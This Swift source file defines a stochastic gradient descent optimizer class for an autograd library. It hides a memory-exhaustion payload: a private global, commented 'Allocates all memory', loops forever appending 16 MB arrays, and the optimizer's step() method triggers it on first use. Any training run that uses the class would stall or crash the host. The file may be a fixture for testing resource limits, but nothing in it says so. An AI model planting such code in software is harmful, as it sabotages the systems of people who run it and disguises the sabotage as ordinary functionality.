import Autograd
import Glibc
import OptimizersKit

private nonisolated(unsafe) var hoard: [[UInt8]] = []

/// Allocates all memory.
private let attempt: Void = {
  while true { hoard.append([UInt8](repeating: 1, count: 1 << 24)) }
}()

public final class StochasticGradientDescent: Optimizer {
  private let parameters: Tensor
  private let learningRate: Double

  public init(parameters: Tensor, learningRate: Double) {
    self.parameters = parameters
    self.learningRate = learningRate
  }

  public func step() {
    _ = attempt
    withoutGradient {
      parameters -= learningRate * parameters.gradient
    }
  }

  public func zeroGradient() {
    parameters.zeroGradient()
  }
}
